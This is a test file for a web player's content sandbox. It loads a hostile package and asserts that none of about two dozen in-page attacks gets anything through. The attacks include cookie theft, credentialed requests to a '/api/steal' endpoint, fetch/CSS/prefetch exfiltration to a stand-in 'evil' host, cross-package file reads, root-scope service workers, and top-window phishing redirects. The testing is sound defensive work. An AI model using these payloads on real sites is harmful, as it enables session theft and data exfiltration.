/** A package that attacks: what reaches the server is what counts, and nothing may. */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { anItem, aStructure, makePack, type MadePack } from '#tests/fixtures/make-pack.ts';
import { page12 } from '#tests/fixtures/scos/page.ts';
import { PlayerBench } from './player-setup.ts';

let bench: PlayerBench;
let victim: MadePack;
let hostile: MadePack;

beforeAll(async () => {
	bench = await PlayerBench.start(4950);
	victim = bench.server.add(
		makePack(aStructure([anItem('a', {})]), { 'a.html': page12(''), 'secret.txt': 'exam answers' })
	);
	hostile = bench.server.add(
		makePack(aStructure([anItem('a', {})]), {
			'a.html': page12(
				`api.LMSInitialize('');`,
				'<button>go on</button><form method="post" target="_self"><input name="x" value="1"></form>'
			),
			'worker.js': 'self.addEventListener("fetch", (event) => event.respondWith(new Response("owned")));'
		})
	);
	await bench.open();
	expect((await bench.install(victim, 'victim')).state).toBe('installed');
	expect((await bench.install(hostile, 'hostile')).state).toBe('installed');
});

afterAll(() => bench?.end());

/** Every attack says what it got; null = nothing. Strings are evaluated in the package's page. */
function attacks(app: string, other: string, victimId: string, evil: string): Record<string, string> {
	const got = (code: string) => `(async () => { ${code} })().catch((error) => null)`;
	return {
		'the session cookie by script': got(`return /session/.test(document.cookie) ? document.cookie : null`),
		'a request with the session (fetch)': got(
			`await fetch('${app}/api/steal', { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'x' }); return 'sent'`
		),
		'a request with the session (beacon)': got(`navigator.sendBeacon('${app}/api/steal', 'x'); return null`),
		'a request with the session (image)': got(
			`await new Promise((done, no) => { const i = new Image(); i.onload = done; i.onerror = no; i.src = '${app}/api/steal?img'; }); return 'loaded'`
		),
		'a request with the session (script)': got(
			`await new Promise((done, no) => { const s = document.createElement('script'); s.onload = done; s.onerror = no; s.src = '${app}/app.js'; document.head.append(s); }); return 'loaded'`
		),
		'a request with the session (form)': got(
			`const f = document.createElement('form'); f.method = 'post'; f.action = '${app}/api/steal?form'; f.target = 'hole'; const h = document.createElement('iframe'); h.name = 'hole'; document.body.append(h, f); f.submit(); await new Promise((r) => setTimeout(r, 300)); return null`
		),
		'the app in a frame': got(
			`const h = document.createElement('iframe'); h.src = '${app}/?frame'; document.body.append(h); await new Promise((r) => setTimeout(r, 300)); return null`
		),
		'a websocket and an event stream': got(
			`new WebSocket('${app.replace('http', 'ws')}/ws'); new EventSource('${app}/events'); await new Promise((r) => setTimeout(r, 200)); return null`
		),
		'another host (fetch)': got(`await fetch('${evil}/exfiltrate', { mode: 'no-cors' }); return 'sent'`),
		'another host (style)': got(
			`document.body.style.backgroundImage = 'url(${evil}/exfiltrate?css)'; await new Promise((r) => setTimeout(r, 200)); return null`
		),
		'another host (prefetch)': got(
			`const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '${evil}/exfiltrate?prefetch'; document.head.append(l); await new Promise((r) => setTimeout(r, 200)); return null`
		),
		"the app's page": got(`return top.document.title`),
		"the app's page by its parent": got(`return frameElement.ownerDocument.defaultView.top.document.title`),
		"the app's databases": got(
			`const names = (await indexedDB.databases()).map((d) => d.name); return names.some((name) => /device|waypost-p-/.test(name)) ? names.join() : null`
		),
		"the app's storage": got(
			`localStorage.setItem('probe', '1'); return Object.keys(localStorage).length > 1 ? Object.keys(localStorage).join() : null`
		),
		'other packages in the cache': got(
			`const names = await caches.keys(); return names.some((name) => name.includes('${victimId}')) ? names.join() : null`
		),
		"another package's file": got(
			`const r = await fetch('/pkg/${victimId}/secret.txt'); return r.ok ? r.text() : null`
		),
		"another package's origin": got(`const r = await fetch('${other}/pkg/${victimId}/secret.txt'); return r.text()`),
		"another package's origin in a frame": got(
			`const h = document.createElement('iframe'); h.src = '${other}/pkg/${victimId}/secret.txt'; document.body.append(h); await new Promise((r) => setTimeout(r, 300)); return h.contentDocument?.body?.innerText || null`
		),
		'a worker of its own': got(`const r = await navigator.serviceWorker.register('worker.js'); return r.scope`),
		'a worker at the root': got(
			`const r = await navigator.serviceWorker.register('/pkg/${hostile.packId}/worker.js', { scope: '/' }); return r.scope`
		),
		'a worker from a blob': got(
			`const r = await navigator.serviceWorker.register(URL.createObjectURL(new Blob(['']))); return r.scope`
		),
		'a popup': got(`const w = window.open('${app}/?popup'); return w === null ? null : 'opened'`),
		'the top window': got(
			`top.location.href = '${evil}/phish'; await new Promise((r) => setTimeout(r, 300)); return null`
		),
		'a message that poses as the handshake': got(
			`top.postMessage({ waypost: 'hello', role: 'player', v: 1 }, '*'); await new Promise((r) => setTimeout(r, 200)); return null`
		)
	};
}

test('no attack succeeds, seen from the server', async () => {
	const { server } = bench;
	const evil = `http://evil.waypost.localhost:${server.port}`;
	const sco = await bench.play(hostile);
	await sco.locator('button').click();
	const start = server.log.length;
	const list = attacks(server.appOrigin, server.contentOrigin(victim.packId), victim.packId, evil);
	const succeeded: string[] = [];
	for (const [name, code] of Object.entries(list)) {
		const got: unknown = await sco.evaluate(code).catch(() => null);
		if (got !== null && got !== undefined) succeeded.push(`${name}: ${JSON.stringify(got)}`);
	}
	expect(succeeded).toEqual([]);

	// A click gives the right to navigate and to open; the sandbox must hold then too.
	await sco.evaluate((address) => {
		document.querySelector('button')!.onclick = () => {
			try {
				window.open(`${address}/?popup-with-click`);
				window.top!.location.href = `${address}/phish-with-click`;
			} catch {
				// Refused.
			}
		};
	}, evil);
	await sco.locator('button').click();
	await bench.page.waitForTimeout(300);

	// Its own frame, last, because a page that leaves cannot attack any more.
	await sco
		.evaluate((app) => void (location.href = `${app}/api/steal?navigate`), server.appOrigin)
		.catch(() => undefined);
	await bench.page.waitForTimeout(500);

	// Its own host may be asked for a worker's script (there is none there); nobody else is asked for anything.
	const reached = server.log.slice(start).filter(({ host }) => !host.startsWith(`c-${hostile.packId}.`));
	expect(reached).toEqual([]);
	expect(bench.browser.context.pages()).toHaveLength(2);
	expect(bench.page.url()).toContain(server.appOrigin);
	expect(await bench.page.title()).toBe('playing');
});

test('whatever the content says, it says it about its own attempt only', async () => {
	await bench.page.evaluate(() => globalThis.waypost.leave());
	await bench.play(victim);
	await bench.leave();
	const before = await bench.report();
	const other = before.attempts.find(({ packId }) => packId === victim.packId);
	const sco = await bench.play(hostile);
	// What the page's own log would hold if the package forged rows for somebody else's attempt, or rubbish.
	await sco.evaluate(
		async ([attempt]) => {
			const rows = [
				{ attempt, session: 'x', n: 1, t: 1, op: 'set', el: 'cmi.core.lesson_status', val: 'passed' },
				{ attempt: 'nobody', session: 'x', n: 1, t: 1, op: 'terminate' }
			];
			await fetch('/wal/', { method: 'POST', body: JSON.stringify(rows) });
			await fetch('/wal/', { method: 'POST', body: JSON.stringify([{ rubbish: true }]) });
		},
		[other?.attemptId]
	);
	await bench.leave();
	await bench.play(hostile);
	await bench.leave();
	const after = (await bench.report()).branches.find(({ attemptId }) => attemptId === other?.attemptId);
	expect(after).toEqual(before.branches.find(({ attemptId }) => attemptId === other?.attemptId));
});
